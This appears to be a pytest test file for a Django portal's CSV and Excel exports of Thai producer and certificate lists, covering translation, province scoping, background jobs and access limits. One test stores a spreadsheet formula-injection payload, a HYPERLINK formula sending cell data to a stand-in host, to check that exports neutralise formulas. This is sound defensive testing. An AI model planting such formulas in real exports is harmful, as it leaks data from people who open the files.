"""Spreadsheet exports of the officer's lists: CSV and Excel with the page's filters, Thai text
intact, headers in the page's language, formulas neutralised; large ones made in the background
and downloadable by their requester only."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from matching.models import ExportJob, ExportStatus, ReferralState
from matching.officer.exports import EXPORTS, export_make, export_request
from matching.services import referral_propose, rematch_all
from otop_portal.models import Notification, NotificationKind, Role
from otop_portal.notifications import describe
from otop_portal.spreadsheets import neutralise
from producers.models import CertificationStatus, ProducerStatus
from tests import factories

pytestmark = pytest.mark.django_db

SILK = "กลุ่มผ้าไหมมัดหมี่บ้านนา"


def export_url(list_name: str, fmt: str = "csv", **filters) -> str:
    query = "&".join(f"{k}={v}" for k, v in {**filters, "format": fmt}.items())
    return f"{reverse('matching:export', args=[list_name])}?{query}"


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def read_csv(response) -> list[list[str]]:
    body = _body(response)
    assert body.startswith(codecs.BOM_UTF8), "without the BOM Excel garbles the Thai"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(_body(response))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def read(response, fmt: str) -> list[list]:
    assert response.status_code == 200, response.status_code
    return read_csv(response) if fmt == "csv" else read_xlsx(response)


def column(rows: list[list], header: str) -> list:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def in_language(language: str, text: str) -> str:
    with translation.override(language):
        return translation.gettext(text)


def _submitted(province_code: str = "50", **kwargs):
    kwargs.setdefault("submitted_at", timezone.now() - dt.timedelta(days=2))
    return factories.ProducerFactory(
        province=factories.ProvinceFactory(code=province_code), **kwargs
    )


@pytest.fixture
def english(client):
    client.cookies["django_language"] = "en"
    return client


# --- The file -----------------------------------------------------------------------------------


def test_the_csv_keeps_thai_text_and_is_an_attachment_named_for_the_list(client, officer):
    _submitted(name_th=SILK)
    client.force_login(officer)
    response = client.get(export_url("producers", "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="otop-producers-{today}.csv"'
    rows = read(response, "csv")
    assert SILK in rows[1]


def test_the_excel_file_keeps_thai_text_with_a_bold_frozen_header(client, officer):
    _submitted(name_th=SILK)
    client.force_login(officer)
    response = client.get(export_url("producers", "xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert SILK in [cell.value for cell in sheet[2]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_headers_and_labels_are_in_thai_by_default(client, officer, fmt):
    _submitted(producer_type="community_group")
    client.force_login(officer)
    rows = read(client.get(export_url("producers", fmt)), fmt)
    with translation.override("th"):
        assert rows[0] == [str(c.header) for c in EXPORTS["producers"].columns]
    assert "จังหวัด" in rows[0]
    assert column(rows, "จังหวัด") == ["เชียงใหม่"]
    assert column(rows, "ประเภทผู้ผลิต") == [in_language("th", "Community producer group")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_headers_and_labels_are_in_english_for_an_english_reader(english, officer, fmt):
    _submitted(producer_type="community_group")
    english.force_login(officer)
    rows = read(english.get(export_url("producers", fmt)), fmt)
    assert rows[0][:3] == ["Producer ID", "Name (Thai)", "Name (English)"]
    assert column(rows, "Province") == ["Chiang Mai"]
    assert column(rows, "Producer type") == ["Community producer group"]


def test_dates_are_iso_dates_in_the_christian_era(english, officer):
    submitted = timezone.make_aware(dt.datetime(2025, 3, 9, 14, 30))
    _submitted(submitted_at=submitted)
    english.force_login(officer)
    csv_rows = read(english.get(export_url("producers", "csv")), "csv")
    assert column(csv_rows, "Submitted on") == ["2025-03-09 14:30"]
    xlsx_rows = read(english.get(export_url("producers", "xlsx")), "xlsx")
    assert column(xlsx_rows, "Submitted on") == [dt.datetime(2025, 3, 9, 14, 30)]


# --- What is in it ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_filters_of_the_page_are_applied(english, officer, fmt):
    _submitted(name_th=SILK)
    _submitted(name_th="กลุ่มน้ำพริกแม่บัว")
    english.force_login(officer)
    rows = read(english.get(export_url("producers", fmt, q="ผ้าไหม")), fmt)
    assert column(rows, "Name (Thai)") == [SILK]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_another_provinces_rows_are_not_exported(english, officer, fmt):
    _submitted("50", name_th="กลุ่มเชียงใหม่")
    _submitted("40", name_th="กลุ่มขอนแก่น")
    english.force_login(officer)
    for url in (export_url("producers", fmt), export_url("producers", fmt, province="40")):
        assert column(read(english.get(url), fmt), "Name (Thai)") == ["กลุ่มเชียงใหม่"]


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_in_names_come_out_as_text(english, officer, fmt):
    _submitted(name_th=HYPERLINK, name_en="+66 81 234 5678", phone="@SUM(1)")
    english.force_login(officer)
    response = english.get(export_url("producers", fmt))
    rows = read(response, fmt)
    assert column(rows, "Name (Thai)") == ["'" + HYPERLINK]
    assert column(rows, "Name (English)") == ["'+66 81 234 5678"]
    assert column(rows, "Phone") == ["'@SUM(1)"]
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert {cell.data_type for cell in sheet[2]} <= {"s", "n", "d"}  # no "f": no formula


def test_neutralising_agrees_with_defusedcsv_and_covers_tab_and_return():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+66812345678") == "'+66812345678"
    assert neutralise("-12.5") == "-12.5"  # a number stays a number
    assert neutralise("\t=cmd") == "'\t=cmd"
    assert neutralise("\r=cmd") == "'\r=cmd"
    assert neutralise(SILK) == SILK


def test_certificate_exports_keep_the_queue_and_its_filters(english, officer):
    producer = _submitted(name_th=SILK)
    halal = factories.CertificationFactory(
        producer=producer,
        number="HL-001",
        type=factories.CertificationTypeFactory(code="halal", name_en="Halal", name_th="ฮาลาล"),
    )
    factories.CertificationFactory(producer=producer, number="FDA-002")
    factories.CertificationFactory(
        producer=producer, number="GMP-003", status=CertificationStatus.VERIFIED
    )  # not waiting
    english.force_login(officer)
    rows = read(english.get(export_url("certificates", "csv", type="halal")), "csv")
    assert column(rows, "Certificate ID") == [str(halal.pk)]
    assert column(rows, "Certificate type") == ["Halal"]
    assert column(rows, "Producer (Thai)") == [SILK]
    assert column(rows, "Issue date") == ["2024-01-15"]


def test_the_expiring_export_lists_what_expires_soon(english, officer):
    producer = _submitted(status=ProducerStatus.VERIFIED)
    soon = timezone.localdate() + dt.timedelta(days=10)
    factories.CertificationFactory(
        producer=producer, status=CertificationStatus.VERIFIED, expires_on=soon, number="SOON"
    )
    factories.CertificationFactory(
        producer=producer,
        status=CertificationStatus.VERIFIED,
        expires_on=soon + dt.timedelta(days=200),
        number="LATER",
    )
    english.force_login(officer)
    rows = read(english.get(export_url("expiring", "xlsx")), "xlsx")
    assert column(rows, "Certificate number") == ["SOON"]
    assert column(rows, "Expiry date") == [dt.datetime.combine(soon, dt.time())]
    assert column(rows, "Days to expiry") == [10]


def _eligible(name_th: str, province_code: str = "50"):
    profile = factories.ProducerFactory(
        province=factories.ProvinceFactory(code=province_code), status=ProducerStatus.VERIFIED
    )
    return factories.ProductFactory(producer=profile, name_th=name_th)


def test_the_candidate_export_has_scores_channels_and_partners(english, officer):
    channel = factories.ChannelFactory(
        code="central-shelf", partner=factories.PartnerFactory(code="central", name_en="Central")
    )
    silk = _eligible(SILK)
    _eligible("น้ำพริกเผา")
    _eligible("ผ้าไหมขอนแก่น", "40")
    rematch_all()
    english.force_login(officer)
    rows = read(english.get(export_url("candidates", "csv", q="ผ้าไหม")), "csv")
    assert column(rows, "Product ID") == [str(silk.pk)]
    assert column(rows, "Channel code") == [channel.code]
    assert column(rows, "Partner") == ["Central"]
    assert column(rows, "Score")[0].isdigit()


def test_the_referral_export_has_the_state_and_last_change(client, officer, other_officer):
    channel = factories.ChannelFactory()
    silk, chilli = _eligible(SILK), _eligible("น้ำพริกเผา")
    theirs = _eligible("ผ้าไหมขอนแก่น", "40")
    rematch_all()
    for product in (silk, chilli):
        referral_propose(product=product, channel=channel, by=officer)
    referral_propose(product=theirs, channel=channel, by=other_officer)
    client.force_login(officer)
    rows = read(client.get(export_url("referrals", "xlsx", q="มัดหมี่")), "xlsx")
    state = in_language("th", "State")
    assert column(rows, in_language("th", "Product (Thai)")) == [SILK]
    assert column(rows, state) == [in_language("th", str(ReferralState.PROPOSED.label))]
    (changed,) = column(rows, in_language("th", "Last change"))
    assert isinstance(changed, dt.datetime)


def _rows_in_every_list(n: int, *, channel, by) -> None:
    """n rows in every list: producers waiting, certificates waiting and expiring, candidates,
    and referrals (half of the new products)."""
    products = [_eligible(f"ผ้าไหม {i}") for i in range(n)]
    for product in products:
        _submitted()
        factories.CertificationFactory(producer=product.producer)
        factories.CertificationFactory(
            producer=product.producer,
            status=CertificationStatus.VERIFIED,
            expires_on=timezone.localdate() + dt.timedelta(days=5),
        )
    rematch_all()
    for product in products[: n // 2]:
        referral_propose(product=product, channel=channel, by=by)


@pytest.mark.parametrize("list_name", sorted(EXPORTS))
def test_an_export_costs_the_same_queries_for_any_number_of_rows(
    client, national_officer, list_name
):
    """No query per row: what the columns read is joined in (and fetched: Column.reads)."""
    channel = factories.ChannelFactory()

    def add(n: int) -> None:
        _rows_in_every_list(n, channel=channel, by=national_officer)

    client.force_login(national_officer)
    url = export_url(list_name, "csv")

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        return len(queries)

    add(2)
    client.get(url)
    few = count()
    add(10)
    assert count() == few


@pytest.mark.parametrize("list_name", sorted(EXPORTS))
def test_an_export_reads_only_the_columns_it_writes(client, national_officer, list_name):
    """Building every column of every joined row was a quarter of an export's time; and the
    representative's encrypted national ID, which no export has, must not even be read."""
    _rows_in_every_list(2, channel=factories.ChannelFactory(), by=national_officer)
    client.force_login(national_officer)
    table = EXPORTS[list_name].rows(national_officer).model._meta.db_table
    with CaptureQueriesContext(connection) as queries:
        rows = read_csv(client.get(export_url(list_name, "csv")))
    assert len(rows) > 1
    # The rows' statement (on PostgreSQL inside a DECLARE … CURSOR: it is streamed), not the
    # count that decides between a download and a job.
    (select,) = [
        q["sql"] for q in queries if f'FROM "{table}"' in q["sql"] and "COUNT(" not in q["sql"]
    ]
    for unread in ('"national_id"', '"password"', '"fingerprint"', '"return_reason"'):
        assert unread not in select


# --- Requests that are not understood -----------------------------------------------------------


def test_an_unknown_format_is_a_clear_400(english, officer):
    english.force_login(officer)
    response = english.get(export_url("producers", "pdf"))
    assert response.status_code == 400
    assert "Choose the CSV or the Excel (XLSX) format." in response.content.decode()
    assert english.get(reverse("matching:export", args=["producers"])).status_code == 400


def test_an_unknown_list_is_not_found(client, officer):
    client.force_login(officer)
    assert client.get("/officer/national-ids/export/?format=csv").status_code == 404


def test_filters_that_are_not_understood_are_left_out_as_on_the_page(english, officer):
    _submitted(name_th=SILK)
    english.force_login(officer)
    rows = read(english.get(export_url("producers", "csv", submitted_from="yesterday")), "csv")
    assert column(rows, "Name (Thai)") == [SILK]


# --- Large exports: in the background -----------------------------------------------------------


@pytest.fixture
def large(settings):
    settings.EXPORT_INLINE_ROWS = 1


def _ask_for_large_export(client, officer, django_capture_on_commit_callbacks, **filters):
    _submitted(name_th=SILK)
    _submitted(name_th="กลุ่มผ้าไหมแม่แตง")
    _submitted(name_th="กลุ่มน้ำพริก")
    client.force_login(officer)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(export_url("producers", "xlsx", **filters))
    return response


def test_a_large_export_becomes_a_job_and_the_officer_is_told(
    english, officer, large, django_capture_on_commit_callbacks
):
    response = _ask_for_large_export(
        english, officer, django_capture_on_commit_callbacks, q="ผ้าไหม"
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("matching:exports")
    page = english.get(response["Location"])
    assert "We are preparing your file; you will be notified when it is ready." in (
        page.content.decode()
    )
    job = ExportJob.objects.get()
    assert (job.requested_by, job.list_name, job.format, job.language) == (
        officer,
        "producers",
        "xlsx",
        "en",
    )
    assert job.query == "q=%E0%B8%9C%E0%B9%89%E0%B8%B2%E0%B9%84%E0%B8%AB%E0%B8%A1"
    # The test settings run tasks inline: the file is made, with the filters applied.
    assert job.status == ExportStatus.DONE
    assert job.row_count == 2
    assert job.finished_at is not None
    assert Notification.objects.filter(
        recipient=officer, kind=NotificationKind.EXPORT_READY, export=job
    ).exists()


def test_the_requester_downloads_the_file_of_a_large_export(
    english, officer, large, django_capture_on_commit_callbacks
):
    _ask_for_large_export(english, officer, django_capture_on_commit_callbacks, q="ผ้าไหม")
    job = ExportJob.objects.get()
    html = english.get(reverse("matching:exports")).content.decode()
    download = reverse("matching:export_download", args=[job.pk])
    assert f'href="{download}"' in html
    response = english.get(download)
    assert response.status_code == 200
    assert re.match(
        r'attachment; filename="otop-producers-\d{4}-\d\d-\d\d\.xlsx"',
        response["Content-Disposition"],
    )
    rows = read_xlsx(response)
    assert sorted(column(rows, "Name (Thai)")) == sorted([SILK, "กลุ่มผ้าไหมแม่แตง"])


def test_nobody_else_may_download_it(
    client, officer, other_officer, admin, large, django_capture_on_commit_callbacks
):
    _ask_for_large_export(client, officer, django_capture_on_commit_callbacks)
    download = reverse("matching:export_download", args=[ExportJob.objects.get().pk])
    for someone in (other_officer, admin):
        client.force_login(someone)
        assert client.get(download).status_code == 404
        assert download not in client.get(reverse("matching:exports")).content.decode()


def test_asking_twice_while_it_is_made_makes_one_job(officer):
    first = export_request(user=officer, list_name="producers", query="", fmt="csv", language="th")
    again = export_request(user=officer, list_name="producers", query="", fmt="csv", language="th")
    other = export_request(user=officer, list_name="producers", query="", fmt="xlsx", language="th")
    assert first == again
    assert other != first


def test_the_scope_is_checked_again_when_the_file_is_made(officer, other_province):
    _submitted("50", name_th="กลุ่มเชียงใหม่")
    _submitted("40", name_th="กลุ่มขอนแก่น")
    job = ExportJob.objects.create(
        requested_by=officer, list_name="producers", format="csv", language="en"
    )
    officer.provinces.set([other_province])  # moved to Khon Kaen before the task ran
    job = export_make(job=job)
    assert job.status == ExportStatus.DONE
    rows = list(csv.reader(io.StringIO(job.file.read().decode("utf-8-sig"))))
    assert column(rows, "Name (Thai)") == ["กลุ่มขอนแก่น"]


def test_someone_no_longer_an_officer_gets_a_failed_export_and_is_told(officer):
    _submitted()
    job = ExportJob.objects.create(
        requested_by=officer, list_name="producers", format="csv", language="en"
    )
    officer.role = Role.PRODUCER
    officer.save()
    job = export_make(job=job)
    assert job.status == ExportStatus.FAILED
    assert not job.file
    assert job.error
    assert Notification.objects.filter(recipient=officer, export=job).exists()


def test_the_downloads_page_lists_only_ones_own_exports(client, officer, other_officer):
    mine = ExportJob.objects.create(
        requested_by=officer, list_name="producers", format="csv", language="th"
    )
    ExportJob.objects.create(
        requested_by=other_officer, list_name="certificates", format="csv", language="th"
    )
    client.force_login(officer)
    response = client.get(reverse("matching:exports"))
    assert list(response.context["page"].object_list) == [mine]


def test_a_list_of_exactly_the_inline_limit_downloads_at_once_and_one_more_is_a_job(
    client, officer, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_INLINE_ROWS = 2
    _submitted(name_th="กลุ่มหนึ่ง")
    _submitted(name_th="กลุ่มสอง")
    client.force_login(officer)
    at_limit = client.get(export_url("producers", "csv"))
    assert at_limit.status_code == 200 and not ExportJob.objects.exists()
    _submitted(name_th="กลุ่มสาม")
    with django_capture_on_commit_callbacks(execute=True):
        over = client.get(export_url("producers", "csv"))
    assert over.status_code == 302
    assert ExportJob.objects.get().row_count == 3


def test_old_export_files_are_removed_and_the_record_stays(
    english, officer, large, settings, django_capture_on_commit_callbacks
):
    from django.core.management import call_command

    _ask_for_large_export(english, officer, django_capture_on_commit_callbacks)
    job = ExportJob.objects.get()
    storage, name = job.file.storage, job.file.name
    assert storage.exists(name)
    settings.EXPORT_KEEP_DAYS = 30
    ExportJob.objects.filter(pk=job.pk).update(finished_at=timezone.now() - dt.timedelta(days=29))
    with django_capture_on_commit_callbacks(execute=True):
        call_command("remove_old_exports")
    assert storage.exists(name)  # not old enough yet

    ExportJob.objects.filter(pk=job.pk).update(finished_at=timezone.now() - dt.timedelta(days=31))
    out = io.StringIO()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("remove_old_exports", stdout=out)
    assert "export files removed: 1" in out.getvalue()
    assert not storage.exists(name)
    job.refresh_from_db()
    assert (job.status, job.list_name, job.requested_by) == ("done", "producers", officer)
    page = english.get(reverse("matching:exports")).content.decode()
    assert "Removed after 30 days. Ask for the list again." in page
    assert english.get(reverse("matching:export_download", args=[job.pk])).status_code == 404
    with translation.override("en"):
        told = describe(Notification.objects.get(export=job))
    assert told.sentence.endswith("has been removed. Please ask for it again.")
    assert told.link == reverse("matching:exports")
    with django_capture_on_commit_callbacks(execute=True):
        call_command("remove_old_exports", stdout=out)
    assert out.getvalue().endswith("export files removed: 0\n")  # nothing twice
